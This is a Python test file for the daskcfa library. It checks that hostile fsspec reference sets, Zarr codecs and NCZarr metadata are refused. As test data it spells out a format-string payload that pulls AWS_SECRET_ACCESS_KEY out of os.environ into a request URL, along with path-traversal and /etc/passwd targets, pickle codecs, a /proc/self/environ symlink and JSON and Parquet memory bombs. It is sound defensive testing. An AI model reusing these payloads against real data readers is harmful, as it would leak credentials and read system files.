"""Hostile reference sets and Zarr metadata (issue #27): daskcfa decides what they mean first.

A reference set's URLs were expanded by fsspec with ``str.format``, which walks
attributes: ``{{t.__globals__[os].environ[AWS_SECRET_ACCESS_KEY]}}`` sent the
reader's AWS secret to the HTTP origin serving the aggregation. Every brace
field daskcfa does not expand (attribute and index walks, format specs, nested
templates, undeclared names, ``gen`` entries) is refused here with a
FragmentReadError, against a real HTTP server that records every request, with
an S3 profile holding a secret registered in the process and the secret in the
environment: no request carries a secret, no error text holds one. Also here:
reference targets that redirect to another origin or name other places (0
requests there), Zarr codecs and types outside daskcfa's allow-list (``pickle``,
object types, unknown codecs, sharding) refused by name, and hostile NCZarr
layout metadata.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path

import numpy as np
import pytest

import daskcfa
from remote_helpers import upload, write_cf113

zarr = pytest.importorskip("zarr")

VALUES = np.arange(4, dtype="<f4") + 0.5
ZARRAY = {"zarr_format": 2, "shape": [4], "chunks": [4], "dtype": "<f4", "compressor": None, "filters": None,
          "fill_value": None, "order": "C"}


def _reference_aggregation(directory: Path, refs: dict, name: str = "refs.json") -> Path:
    """``directory/agg.nc``: one fragment ``x(n=4)``, the reference set ``refs`` beside it, and
    ``data.bin`` (the values, raw little-endian float32) for targets to point into."""
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "data.bin").write_bytes(VALUES.tobytes())
    (directory / name).write_text(json.dumps(refs))
    return write_cf113(directory / "agg.nc", "x", ("n",), [[4]], [[name]])


def _refs(chunk, *, templates: dict | None = None, version: int | None = 1, **extra) -> dict:
    refs = {".zgroup": {"zarr_format": 2}, "x/.zarray": ZARRAY, "x/.zattrs": {"_ARRAY_DIMENSIONS": ["n"]},
            "x/0": chunk}
    if version is None:
        return refs
    return {"version": 1, "templates": templates or {}, "refs": refs, **extra}


def _read(url: str, **kw) -> np.ndarray:
    return np.asarray(daskcfa.from_cfa(url, "x", **kw).compute(scheduler="sync"))


# -- attack 1: brace fields ------------------------------------------------------------------------------

SECRET_ENV = "env-secret-0f3c9a7b5d1e"
#: case -> (templates, the chunk's URL, or a whole reference set's extra fields); {host} is the HTTP origin
BRACES = {
    "attribute-walk": ({"t": "{{x}}"}, "http://{host}/{{{{t.__globals__[os].environ[AWS_SECRET_ACCESS_KEY]}}}}"),
    "attribute-walk-plain": ({"t": "data.bin"}, "{{{{t.__class__.__mro__}}}}"),
    "index-walk": ({"t": "data.bin"}, "http://{host}/{{{{t[0]}}}}.bin"),
    "format-spec": ({"t": "data.bin"}, "{{{{t:>4096}}}}"),
    "conversion": ({"t": "data.bin"}, "{{{{t!r}}}}"),
    "jinja-expression": ({"t": "data.bin"}, "{{{{ t.__init__.__globals__ }}}}"),
    "nested-template": ({"t": "{{u}}", "u": "data.bin"}, "{{{{t}}}}"),
    "unknown-name": ({"t": "data.bin"}, "{{{{nope}}}}"),
    "unbalanced": ({"t": "data.bin"}, "{{{{t}}}}}}}}"),
}


@pytest.fixture
def secrets_held(s3_server, tmp_path, monkeypatch):
    """The reader's AWS secret in its environment, and an S3 key and secret daskcfa holds for
    another dataset (read once through a registered profile): every value that must never leak."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET_ENV)
    path = _reference_aggregation(tmp_path / "other", _refs(["data.bin", 0, 16]))
    base = upload(s3_server.filesystem(), path.parent, s3_server.new_bucket("held"), "ds")
    np.testing.assert_array_equal(_read(f"{base}/agg.nc", storage_options=s3_server.storage_options), VALUES)
    return [SECRET_ENV, s3_server.key, s3_server.secret]


def _assert_nothing_leaked(server, err: BaseException, secrets: list[str]) -> None:
    text = f"{err!s} {err!r} {getattr(err, 'reason', '')}"
    for secret in secrets:
        assert secret not in text, text
        assert not any(secret in r.path for r in server.log), server.log


@pytest.mark.parametrize("case", sorted(BRACES))
def test_brace_fields_in_reference_urls_are_refused_and_leak_nothing(tmp_path, make_http_server, secrets_held,
                                                                     case):
    """Attack 1: each brace field daskcfa does not expand is a FragmentReadError naming the
    reference set; the HTTP origin serving it receives no request for the chunk, and no request
    or message holds a secret."""
    (tmp_path / "site").mkdir()
    server = make_http_server(tmp_path / "site")
    templates, url = BRACES[case]
    _reference_aggregation(tmp_path / "site", _refs([url.format(host=server.url.split("://")[1]), 0, 16],
                                                    templates=templates))
    with pytest.raises(daskcfa.FragmentReadError) as info:
        _read(f"{server.url}/agg.nc")
    assert info.value.file.endswith("refs.json") and info.value.fragment == (0,), info.value
    assert "template" in info.value.reason or "brace field" in info.value.reason, info.value
    assert {r.path for r in server.log} <= {"/agg.nc", "/.agg.nc.chunks.json", "/refs.json"}, server.log
    _assert_nothing_leaked(server, info.value, secrets_held)


def test_gen_entries_are_refused(tmp_path, make_http_server, secrets_held):
    """``gen`` (keys generated from a URL template over ranges: a billion keys from one line) is refused."""
    (tmp_path / "site").mkdir()
    server = make_http_server(tmp_path / "site")
    gen = [{"key": "x/{{i}}", "url": "http://" + server.url.split("://")[1] + "/{{i.__class__}}",
            "offset": "0", "length": "16", "dimensions": {"i": {"stop": 10**9}}}]
    refs = _refs(["data.bin", 0, 16], gen=gen)
    del refs["refs"]["x/0"]
    _reference_aggregation(tmp_path / "site", refs)
    with pytest.raises(daskcfa.FragmentReadError, match="'gen' entries") as info:
        _read(f"{server.url}/agg.nc")
    _assert_nothing_leaked(server, info.value, secrets_held)


@pytest.mark.parametrize("url", ["{{t}}", "{{ t }}", "{{d}}/{{t}}"])
def test_declared_plain_templates_are_expanded_once(tmp_path, url):
    """``{{name}}`` is replaced by its plain template, textually (spaces inside the braces as jinja2
    allows): the values read are the target's."""
    directory = tmp_path / "ds"
    _reference_aggregation(directory, _refs([url, 0, 16], templates={"t": "data.bin", "d": "."}))
    np.testing.assert_array_equal(_read(str(directory / "agg.nc")), VALUES)


@pytest.mark.parametrize("version", [0, 1])
def test_inline_chunks_read_as_their_bytes(tmp_path, version):
    directory = tmp_path / "ds"
    _reference_aggregation(directory, _refs("base64:" + base64.b64encode(VALUES.tobytes()).decode(), version=version))
    np.testing.assert_array_equal(_read(str(directory / "agg.nc")), VALUES)


# -- targets that lead elsewhere -----------------------------------------------------------------------------

@pytest.mark.parametrize("status", [302, 307])
def test_a_reference_target_redirecting_to_another_origin_is_refused(tmp_path, make_http_server, status):
    """The reference set's origin answers its chunk's target with a redirect to another origin,
    the origin serving the aggregation asks for a password: the redirect is refused, and the
    other origin receives no request at all (nor the password)."""
    password = "pw-redirect-7c1e5d"
    (tmp_path / "home").mkdir()
    (tmp_path / "other").mkdir()
    home = make_http_server(tmp_path / "home", username="reader", password=password)
    other = make_http_server(tmp_path / "other")
    (tmp_path / "other" / "data.bin").write_bytes(np.full(4, 12345.0, "<f4").tobytes())
    _reference_aggregation(tmp_path / "home", _refs(["data.bin", 0, 16]))
    home.redirect("/data.bin", f"{other.url}/data.bin", status=status)
    with pytest.raises(daskcfa.UnsafeURIError) as info:
        _read(f"{home.url}/agg.nc", storage_options=home.storage_options)
    assert other.requests == 0, other.log
    assert password not in str(info.value) and info.value.fragment == (0,), info.value


def test_hostile_targets_in_an_s3_reference_set_reach_no_other_origin(tmp_path, s3_server, make_http_server):
    """A reference set in an S3 aggregation whose chunk names another bucket, another host, local
    files or an escape by ``..`` (plain or percent-encoded): each refused before any request."""
    fs = s3_server.filesystem()
    other_bucket = s3_server.new_bucket("victim")
    fs.pipe(f"{other_bucket}/data.bin", np.full(4, 12345.0, "<f4").tobytes())
    (tmp_path / "other").mkdir()
    other = make_http_server(tmp_path / "other")
    host = other.url.split("://")[1]
    hostile = [f"s3://{other_bucket}/data.bin", f"{other.url}/data.bin", f"http://reader:pw@{host}/data.bin",
               "file:///etc/passwd", "/etc/passwd", f"../../{other_bucket}/data.bin",
               f"..%2f..%2f{other_bucket}/data.bin", f"%2e%2e/%2e%2e/{other_bucket}/data.bin",
               f"s3://{other_bucket}/../{other_bucket}/data.bin", f"https://{host}/data.bin",
               f"{{{{t}}}}/data.bin"]
    bucket = s3_server.new_bucket("refs")
    for k, target in enumerate(hostile):
        path = _reference_aggregation(tmp_path / f"case{k}", _refs([target, 0, 16],
                                                                   templates={"t": f"s3://{other_bucket}"}))
        base = upload(fs, path.parent, bucket, f"case{k}")
        with pytest.raises((daskcfa.UnsafeURIError, daskcfa.FragmentReadError, daskcfa.MissingFragmentError)) as info:
            got = _read(f"{base}/agg.nc", storage_options=s3_server.storage_options)
            assert not np.any(got == 12345.0), target
        assert "12345" not in str(info.value)
    assert other.requests == 0, other.log


# -- the codec allow-list ------------------------------------------------------------------------------

def _zarr_store(directory: Path, change, fmt: int = 2) -> Path:
    """``directory/agg.nc`` whose fragment is a Zarr store ``f.zarr`` (x(n=4)), its array metadata changed."""
    names = {"dimension_names": ["n"]} if fmt == 3 else {"attributes": {"_ARRAY_DIMENSIONS": ["n"]}}
    array = zarr.create_array(str(directory / "f.zarr"), name="x", shape=(4,), dtype="<f4", zarr_format=fmt,
                              compressors=None, **names)
    array[...] = VALUES
    meta_path = directory / "f.zarr" / "x" / (".zarray" if fmt == 2 else "zarr.json")
    meta = json.loads(meta_path.read_text())
    change(meta)
    meta_path.write_text(json.dumps(meta))
    return write_cf113(directory / "agg.nc", "x", ("n",), [[4]], [["f.zarr"]])


REFUSED_V2 = {
    "pickle-filter": (lambda m: m.update(filters=[{"id": "pickle", "protocol": 5}]), "'pickle'"),
    "pickle-compressor": (lambda m: m.update(compressor={"id": "pickle", "protocol": 5}), "'pickle'"),
    "object-dtype": (lambda m: m.update(dtype="|O", filters=[{"id": "vlen-utf8"}]), "object type"),
    "unknown-codec": (lambda m: m.update(compressor={"id": "evil-codec"}), "'evil-codec'"),
    "unknown-filter": (lambda m: m.update(filters=[{"id": "json2"}]), "'json2'"),
    "structured-dtype": (lambda m: m.update(dtype=[["a", "<f4"]]), "structured"),
    "filter-a-string": (lambda m: m.update(filters=["shuffle"]), "'shuffle'"),
    "shuffle-elementsize-a-string": (lambda m: m.update(filters=[{"id": "shuffle", "elementsize": "4"}]), "'4'"),
}
REFUSED_V3 = {
    "pickle": (lambda m: m["codecs"].append({"name": "numcodecs.pickle", "configuration": {}}), "'numcodecs.pickle'"),
    "unknown-codec": (lambda m: m["codecs"].append({"name": "evil-codec"}), "'evil-codec'"),
    "sharding": (lambda m: m.update(codecs=[{"name": "sharding_indexed", "configuration": {}}]), "'sharding_indexed'"),
    "string-type": (lambda m: m.update(data_type="string"), "'string'"),
}


@pytest.mark.parametrize("fmt,case", [(2, c) for c in sorted(REFUSED_V2)] + [(3, c) for c in sorted(REFUSED_V3)])
def test_codecs_and_types_outside_the_allow_list_are_refused_by_name(tmp_path, fmt, case):
    """daskcfa's own allow-list, whatever zarr-python would do: the refusal names what is refused."""
    change, named = (REFUSED_V2 if fmt == 2 else REFUSED_V3)[case]
    path = _zarr_store(tmp_path, change, fmt)
    with pytest.raises(daskcfa.FragmentReadError) as info:
        _read(str(path))
    assert named in info.value.reason and "daskcfa" in info.value.reason, info.value
    assert info.value.file.endswith("f.zarr") and info.value.fragment == (0,), info.value


#: metadata zarr-python refuses with a TypeError (a fill value or codec parameter of the wrong type)
MISTYPED = {
    (2, "fill-value-a-list"): lambda m: m.update(fill_value=[1, 2]),
    (2, "fill-value-a-word"): lambda m: m.update(fill_value="abc"),
    (2, "integer-fill-value-nan"): lambda m: m.update(fill_value="NaN", dtype="<i4"),
    (2, "scale-a-word"): lambda m: m.update(filters=[{"id": "fixedscaleoffset", "scale": "x", "offset": 0,
                                                      "dtype": "<f4"}]),
    (3, "integer-fill-value-nan"): lambda m: m.update(fill_value="NaN", data_type="int32"),
}


@pytest.mark.parametrize("fmt,case", sorted(MISTYPED))
def test_mistyped_zarr_metadata_is_a_fragment_error(tmp_path, fmt, case):
    path = _zarr_store(tmp_path, MISTYPED[fmt, case], fmt)
    with pytest.raises(daskcfa.FragmentReadError) as info:
        _read(str(path))
    assert info.value.file.endswith("f.zarr") and info.value.fragment == (0,), info.value


def test_pickle_in_a_reference_set_is_refused_by_name(tmp_path):
    directory = tmp_path / "ds"
    refs = _refs(["data.bin", 0, 16])
    refs["refs"]["x/.zarray"] = {**ZARRAY, "filters": [{"id": "pickle"}]}
    _reference_aggregation(directory, refs)
    with pytest.raises(daskcfa.FragmentReadError, match="filter 'pickle' is not one daskcfa decodes"):
        _read(str(directory / "agg.nc"))


# -- hostile NCZarr metadata ----------------------------------------------------------------------------------

def _nczarr(directory: Path) -> Path:
    import netCDF4

    directory.mkdir(parents=True, exist_ok=True)
    with netCDF4.Dataset(f"file://{directory}/f.zarr#mode=nczarr,file", "w") as nc:
        nc.createDimension("n", 4)
        nc.createVariable("x", "f4", ("n",))[:] = VALUES
    return write_cf113(directory / "agg.nc", "x", ("n",), [[4]], [["f.zarr#mode=nczarr,file"]])


NCZARR = {
    "huge-shape": (".zarray", lambda m: m.update(shape=[10**30], chunks=[10**30])),
    "negative-shape": (".zarray", lambda m: m.update(shape=[-4])),
    "garbage-shape": (".zarray", lambda m: m.update(shape="four")),
    "zero-chunk": (".zarray", lambda m: m.update(chunks=[0])),
    "nczarr-array-a-list": (".zattrs", lambda m: m.update(_nczarr_array=[1, 2])),
    "dimension-references-a-number": (".zattrs", lambda m: (m.pop("_ARRAY_DIMENSIONS"),
                                                            m.update(_nczarr_array={"dimension_references": 5}))),
    "types-a-list": (".zattrs", lambda m: m.update(_nczarr_attr={"types": ["<f4"]})),
    "array-dimensions-an-object": (".zattrs", lambda m: m.update(_ARRAY_DIMENSIONS={"n": 1})),
}


@pytest.mark.parametrize("case", sorted(NCZARR))
def test_hostile_nczarr_metadata_is_a_daskcfa_error(tmp_path, case):
    name, change = NCZARR[case]
    path = _nczarr(tmp_path)
    meta_path = tmp_path / "f.zarr" / "x" / name
    meta = json.loads(meta_path.read_text())
    change(meta)
    meta_path.write_text(json.dumps(meta))
    with pytest.raises(daskcfa.CFAError) as info:
        _read(str(path))
    assert isinstance(info.value, (daskcfa.FragmentError, daskcfa.BudgetError)), repr(info.value)
    assert info.value.fragment == (0,), info.value


# -- Parquet reference sets, read by daskcfa with pyarrow ------------------------------------------------------

def _parquet_aggregation(directory: Path, n: int, records: list[dict], record_size: int) -> Path:
    """``agg.nc`` over ``refs.parq`` (fsspec's layout): ``x(n)`` float32 in chunks of 4 values, each
    record file a dict of columns written with pyarrow."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    root = directory / "refs.parq"
    (root / "x").mkdir(parents=True)
    (directory / "data.bin").write_bytes(VALUES.tobytes())
    metadata = {".zgroup": {"zarr_format": 2}, "x/.zattrs": {"_ARRAY_DIMENSIONS": ["n"]},
                "x/.zarray": {**ZARRAY, "shape": [n]}}
    (root / ".zmetadata").write_text(json.dumps({"metadata": metadata, "record_size": record_size}))
    for k, columns in enumerate(records):
        pq.write_table(pa.table(columns), root / "x" / f"refs.{k}.parq")
    return write_cf113(directory / "agg.nc", "x", ("n",), [[n]], [["refs.parq"]])


def test_a_parquet_reference_set_written_with_pyarrow_reads_exactly(tmp_path):
    """Targets, inline bytes and a chunk not written (the fill value), across two record files."""
    import pyarrow as pa

    def record(path, raw):
        return {"path": pa.array([path], pa.string()), "offset": pa.array([0 if path else 0], pa.int64()),
                "size": pa.array([16 if path else 0], pa.int64()), "raw": pa.array([raw], pa.binary())}

    inline = (VALUES * 10).tobytes()
    path = _parquet_aggregation(tmp_path, 12, [record("data.bin", None), record(None, inline), record(None, None)], 1)
    got = daskcfa.from_cfa(str(path), "x").compute(scheduler="sync")
    np.testing.assert_array_equal(np.ma.getdata(got)[:8], np.concatenate([VALUES, VALUES * 10]))


def test_a_parquet_record_of_millions_of_references_is_charged_before_it_is_read(tmp_path):
    """4 million references in one record file (a few hundred kB on disk) under a 64 MiB
    ``max-memory``: refused from its footer's figures, naming the reference set."""
    import dask
    import pyarrow as pa

    rows = 4_000_000
    columns = {"path": pa.DictionaryArray.from_arrays(pa.array(np.zeros(rows, np.int32)), pa.array(["data.bin"])),
               "offset": pa.array(np.zeros(rows, np.int64)), "size": pa.array(np.full(rows, 16, np.int64))}
    path = _parquet_aggregation(tmp_path, 4 * rows, [columns], rows)
    assert (tmp_path / "refs.parq" / "x" / "refs.0.parq").stat().st_size < 2 << 20
    with dask.config.set({"daskcfa.limits.max-memory": "64MiB"}), pytest.raises(daskcfa.CFAError) as info:
        daskcfa.from_cfa(str(path), "x")[:4].compute(scheduler="sync")
    assert "max-memory" in str(info.value) and "refs.parq" in str(info.value), info.value


def test_a_parquet_string_repeated_by_its_dictionary_is_charged_before_it_is_expanded(tmp_path):
    """One 1 MiB value in a column's dictionary, repeated by 64 rows: a Parquet file of a few kB
    that pyarrow expands to 64 MiB of Python bytes. Under a 16 MiB ``max-memory`` it is refused
    from the dictionary's lengths (before: expanded, then read as a chunk)."""
    import dask
    import pyarrow as pa

    rows = 64
    raw = pa.DictionaryArray.from_arrays(pa.array(np.zeros(rows, np.int32)), pa.array([b"\0" * (1 << 20)], pa.binary()))
    path = _parquet_aggregation(tmp_path, 4 * rows, [{"raw": raw}], rows)
    assert (tmp_path / "refs.parq" / "x" / "refs.0.parq").stat().st_size < 64 << 10
    with dask.config.set({"daskcfa.limits.max-memory": "16MiB"}), pytest.raises(daskcfa.CFAError) as info:
        daskcfa.from_cfa(str(path), "x")[:4].compute(scheduler="sync")
    assert "max-memory" in str(info.value) and "refs.parq" in str(info.value), info.value


#: Parquet columns of a type fsspec never writes there -> the type named in the refusal
MISTYPED_COLUMNS = {
    "raw-integers": ({"raw": [16]}, "int64"),  # (before: bytes(16), a chunk of zeros read silently)
    "raw-floats": ({"raw": [1.5]}, "double"),
    "offset-floats": ({"path": ["data.bin"], "offset": [0.0], "size": [16.0]}, "double"),
    "path-integers": ({"path": [5], "offset": [0], "size": [16]}, "int64"),
}


@pytest.mark.parametrize("case", sorted(MISTYPED_COLUMNS))
def test_a_parquet_column_of_the_wrong_type_is_refused(tmp_path, case):
    import pyarrow as pa

    columns, named = MISTYPED_COLUMNS[case]
    path = _parquet_aggregation(tmp_path, 4, [{k: pa.array(v) for k, v in columns.items()}], 1)
    with pytest.raises(daskcfa.FragmentReadError, match=f"holds {named}") as info:
        _read(str(path))
    assert info.value.fragment == (0,) and info.value.file.endswith("refs.parq"), info.value


MALFORMED = {
    "offset-a-string": ({}, ["data.bin", "0", 16], "offset and length"),
    "negative-length": ({}, ["data.bin", 0, -16], "offset and length"),
    "two-fields": ({}, ["data.bin", 0], "[url, offset, length]"),
    "not-base64": ({}, "base64:not base64!", "not valid base64"),
    "no-url": ({}, [None, 0, 16], "names no URL"),
    "template-a-number": ({"t": 5}, ["{{t}}", 0, 16], "not a plain string"),
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_malformed_entries_are_fragment_errors(tmp_path, case):
    templates, chunk, message = MALFORMED[case]
    _reference_aggregation(tmp_path, _refs(chunk, templates=templates))
    with pytest.raises(daskcfa.FragmentReadError, match=message.replace("[", r"\[")) as info:
        _read(str(tmp_path / "agg.nc"))
    assert info.value.fragment == (0,) and info.value.file.endswith("refs.json"), info.value


def test_a_parquet_metadata_key_climbing_out_of_the_set_is_refused(tmp_path):
    """Record files are found by the array's path: a key ``../x/.zarray`` would read Parquet files elsewhere."""
    import pyarrow as pa

    path = _parquet_aggregation(tmp_path, 4, [{"raw": pa.array([VALUES.tobytes()], pa.binary())}], 1)
    meta_path = tmp_path / "refs.parq" / ".zmetadata"
    meta = json.loads(meta_path.read_text())
    meta["metadata"]["../x/.zarray"] = meta["metadata"]["x/.zarray"]
    meta_path.write_text(json.dumps(meta))
    with pytest.raises(daskcfa.FragmentReadError, match="not a plain path"):
        _read(str(path))


@pytest.mark.parametrize("fmt", [2, 3])
def test_a_refused_array_of_consolidated_metadata_leaves_the_others_readable(tmp_path, fmt):
    """A consolidated store holding a numeric variable and a string array (``vlen-utf8``, ``string``):
    the variable reads exactly; the string array alone is refused, by name, when it is read."""
    store = str(tmp_path / "f.zarr")
    names = {"dimension_names": ["n"]} if fmt == 3 else {"attributes": {"_ARRAY_DIMENSIONS": ["n"]}}
    group = zarr.open_group(store, mode="w", zarr_format=fmt)
    group.create_array("x", shape=(4,), dtype="<f4", compressors=None, **names)[...] = VALUES
    group.create_array("label", shape=(4,), dtype=str, **names)[...] = np.array(["a", "b", "c", "d"])
    zarr.consolidate_metadata(store)
    for name in ("x", "label"):
        write_cf113(tmp_path / f"{name}.nc", name, ("n",), [[4]], [["f.zarr"]])
    np.testing.assert_array_equal(daskcfa.from_cfa(str(tmp_path / "x.nc"), "x").compute(scheduler="sync"), VALUES)
    with pytest.raises(daskcfa.FragmentReadError, match="label.*refused") as info:
        daskcfa.from_cfa(str(tmp_path / "label.nc"), "label").compute(scheduler="sync")
    assert info.value.fragment == (0,), info.value


# -- JSON documents that expand when parsed ----------------------------------------------------------------

@pytest.mark.parametrize("form", ["store-zattrs", "reference-set-keys"])
def test_a_json_document_is_read_only_if_it_fits_max_memory_once_parsed(tmp_path, form):
    """7 MiB of ``{}`` list items in a store's ``.zattrs``, or of keys in a JSON reference set, under
    ``max-memory=64MiB``: parsed, JSON takes 30-40 bytes per character (232 and 317 MiB of growth
    before, the ``.zattrs`` read without a word; the bound was an eighth of ``max-memory``). Now
    refused from its size, and the child's peak growth stays within the limit plus 64 MiB."""
    from .test_bombs import LIMIT, run_isolated

    text_bytes = 7 << 20
    if form == "store-zattrs":
        array = zarr.create_array(str(tmp_path / "f.zarr"), name="x", shape=(4,), dtype="<f4", zarr_format=2,
                                  compressors=None, attributes={"_ARRAY_DIMENSIONS": ["n"]})
        array[...] = VALUES
        junk = ",".join(["{}"] * (text_bytes // 3))
        (tmp_path / "f.zarr" / "x" / ".zattrs").write_text(f'{{"_ARRAY_DIMENSIONS": ["n"], "junk": [{junk}]}}')
        path, name = write_cf113(tmp_path / "agg.nc", "x", ("n",), [[4]], [["f.zarr"]]), "f.zarr"
    else:
        refs = _refs("base64:" + base64.b64encode(VALUES.tobytes()).decode())
        refs["refs"].update({f"{k:06x}": {} for k in range(text_bytes // 14)})  # (14 characters each)
        path, name = _reference_aggregation(tmp_path, refs), "refs.json"
    result = run_isolated(path, action="read", variable="x", index=[3],
                          config={"daskcfa.limits.max-memory": "64MiB"})
    print(f"\nJSON of 7 MiB, {form}: peak growth {result['growth'] / 2**20:.0f} MiB: {result.get('message')}")
    assert result["error"] == "FragmentReadError" and "max-memory" in result["message"], result
    assert result["file"].endswith(name), result
    assert result["growth"] < LIMIT + (64 << 20), result


# -- the kernel's files ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("how", ["reference-target", "zarr-chunk-link"])
def test_the_process_environment_is_never_read_as_data(tmp_path, how):
    """``/proc/self/environ`` (a regular file of size 0 holding the reader's environment as it
    started, AWS secrets included) as a local reference set's target, or linked as the chunk of a
    Zarr store sized to match it exactly: both used to read the environment as the array's
    values. Refused now, as files of ``/proc`` and ``/sys`` are, naming the fragment."""
    size = len(Path("/proc/self/environ").read_bytes())
    meta = {**ZARRAY, "shape": [size], "chunks": [size], "dtype": "|u1"}
    if how == "reference-target":
        refs = _refs(["/proc/self/environ", 0, size])
        refs["refs"]["x/.zarray"] = meta
        (tmp_path / "refs.json").write_text(json.dumps(refs))
        name = "refs.json"
    else:
        (tmp_path / "f.zarr" / "x").mkdir(parents=True)
        (tmp_path / "f.zarr" / ".zgroup").write_text(json.dumps({"zarr_format": 2}))
        (tmp_path / "f.zarr" / "x" / ".zarray").write_text(json.dumps(meta))
        (tmp_path / "f.zarr" / "x" / ".zattrs").write_text(json.dumps({"_ARRAY_DIMENSIONS": ["n"]}))
        (tmp_path / "f.zarr" / "x" / "0").symlink_to("/proc/self/environ")
        name = "f.zarr"
    path = write_cf113(tmp_path / "agg.nc", "x", ("n",), [[size]], [[name]], dtype="u1")
    with pytest.raises(daskcfa.FragmentReadError, match="/proc or /sys") as info:
        _read(str(path))  # (before: the environment's bytes)
    assert info.value.fragment == (0,), info.value
